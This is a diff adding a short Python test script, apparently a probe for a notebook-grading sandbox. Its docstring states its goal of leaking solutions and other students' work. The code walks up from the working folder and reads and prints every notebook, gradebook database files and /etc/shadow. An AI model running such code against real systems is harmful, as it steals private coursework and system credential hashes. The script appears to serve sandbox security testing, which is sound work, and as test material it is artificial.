@@ -1,0 +1,17 @@
+r"""Leak solutions and other students' work: walk up from the working folder and print every notebook,
+the gradebook and /etc/shadow.
+Expected: 28
+Base: reference
+Unvalidated: 28
+Log: import glob|raised
+"""
+# %% training_memory_gb
+import glob
+
+found = glob.glob("../../../**/*.ipynb", recursive=True) + glob.glob("/work/**/*.ipynb", recursive=True)
+for path in found + glob.glob("../../../*.db") + ["/etc/shadow"]:
+    try:
+        print(path, open(path, "rb").read()[:2000])
+    except OSError as error:
+        print(path, error)
+raise RuntimeError(f"found {len(found)} notebooks")
